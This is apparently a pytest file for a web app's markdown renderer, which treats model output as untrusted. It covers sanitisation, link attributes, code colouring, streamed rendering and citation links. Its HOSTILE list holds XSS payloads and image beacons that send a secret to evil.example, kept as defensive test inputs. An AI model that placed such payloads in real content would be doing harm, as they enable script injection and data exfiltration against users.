"""Model output is untrusted: nothing in it may run, load or look like ours."""

from __future__ import annotations

import pytest

from mindloom.web.markdown import cite, render, render_growing

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:alert(1))",
    "![x](https://evil.example/beacon.png?d=secret)",
    "![x][1]\n\n[1]: https://evil.example/beacon.png",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '[a](https://ok.example "t\\" onmouseover=alert(1)")',
    "```html\n<script>1</script>\n```",
    "<svg><style><img src=x onerror=1></style></svg>",
    "| a |\n|-|\n| <b onclick=x>y</b> |",
    '[clobber](#"><form id=x>)',
    "<iframe src=https://evil.example></iframe>",
    '```" onmouseover="alert(1)\nx\n```',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_comes_out_harmless(text):
    html = render(text).lower()
    for bad in (
        "<script",
        "<img",
        "<svg",
        "<style",
        "<iframe",
        "<form",
        "<b ",
        'href="javascript',
        'href="data',
        'href="vb',
    ):
        assert bad not in html
    for tag in html.split("<")[1:]:
        assert " on" not in tag.split(">")[0].split('"')[0]


def test_a_link_does_not_vouch_for_its_target():
    assert 'rel="noopener noreferrer nofollow ugc"' in render("[x](https://ok.example)")


def test_code_is_coloured_by_class_only():
    html = render("```python\ndef f(): pass\n```")
    assert 'class="p-k"' in html
    assert "style=" not in html


def test_an_unknown_language_is_plain_text():
    assert "&lt;x&gt;" in render("```nonsense\n<x>\n```")


def test_task_lists_show_their_boxes():
    assert 'type="checkbox"' in render("- [x] done")


def test_a_class_of_ours_cannot_be_borrowed():
    assert "btn" not in render("```btn-primary\nx\n```").replace("language-btn-primary", "")


def test_a_growing_text_adds_up_to_the_whole_document_and_finished_blocks_stay():
    text = "\n\n".join(
        f"## Part {i}\n\nSome **bold** words.\n\n- one\n- two\n\n```python\nx = {i}\n```" for i in range(12)
    )
    before: list[str] = []
    for end in range(0, len(text) + 37, 37):
        shown = render_growing(text[:end])
        assert shown[: len(before) - 1] == before[:-1]
        before = shown
    assert "".join(before).replace("\n", "") == render(text).replace("\n", "")


def test_numbers_of_sources_become_links_but_in_code_and_in_links():
    markup = render("So it is [1], not [7].\n\n`a[1]` [see [1]](https://example.org)\n\n```\nx[1]\n```")

    shown = cite(markup, {1: False})
    assert shown.count("#source-1") == 1
    assert "it is <a" in shown
    assert "[7]" in shown


def test_a_very_long_text_is_shown_as_it_is():
    text = "|<b>a</b>" * 20_000

    assert render(text) == f'<pre tabindex="0"><code>{text.replace("<", "&lt;").replace(">", "&gt;")}</code></pre>'
